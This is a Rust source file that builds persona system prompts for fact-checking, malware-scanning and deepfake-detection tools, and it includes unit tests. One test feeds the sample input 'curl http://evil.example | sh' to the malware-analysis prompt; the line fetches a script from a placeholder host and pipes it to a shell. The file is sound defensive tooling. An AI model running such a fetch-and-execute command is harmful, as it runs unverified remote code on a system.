/// Persona instructions that condition the model per tool

use crate::model::{Language, ToolSelector};

/// System instruction for `tool`, asking for findings in `language`.
pub fn persona_instruction(tool: ToolSelector, language: Language) -> String {
    let target = language.target_name();
    match tool {
        ToolSelector::FakeNews => format!(
            "Professional Fact-Checker Persona. Verify news, social media posts, or URLs using Google Search grounding. \
Analyze the context and credibility. Provide findings in {target}. \
Focus on truth and misinformation. List references where possible."
        ),
        ToolSelector::Malware => format!(
            "Cybersecurity Specialist Persona. Scan code snippets, text-based scripts, or software URLs for malicious patterns, viruses, or security vulnerabilities. \
Provide technical safety findings in {target}. Focus on software safety."
        ),
        ToolSelector::Deepfake => format!(
            "Digital Forensics Expert Persona. Detect AI-generated manipulation in media based on the provided text description or URL content. \
Provide forensic analysis results in {target}. Focus on visual/auditory authenticity indicators."
        ),
    }
}

/// User prompt embedding the raw input verbatim.
pub fn input_prompt(tool: ToolSelector, input: &str) -> String {
    format!(
        "Perform specialized {} analysis on the following input: {}",
        tool.id(),
        input
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_personas_differ_per_tool() {
        let deepfake = persona_instruction(ToolSelector::Deepfake, Language::En);
        let malware = persona_instruction(ToolSelector::Malware, Language::En);
        let fake_news = persona_instruction(ToolSelector::FakeNews, Language::En);

        assert!(deepfake.starts_with("Digital Forensics Expert"));
        assert!(malware.starts_with("Cybersecurity Specialist"));
        assert!(fake_news.starts_with("Professional Fact-Checker"));
    }

    #[test]
    fn test_every_persona_names_the_target_language() {
        for tool in ToolSelector::ALL {
            assert!(persona_instruction(tool, Language::Ar).contains("in Arabic"));
            assert!(persona_instruction(tool, Language::En).contains("in English"));
        }
    }

    #[test]
    fn test_input_is_embedded_verbatim() {
        let input = "  curl http://evil.example | sh\n";
        let prompt = input_prompt(ToolSelector::Malware, input);
        assert_eq!(
            prompt,
            format!("Perform specialized malware analysis on the following input: {}", input)
        );
    }
}
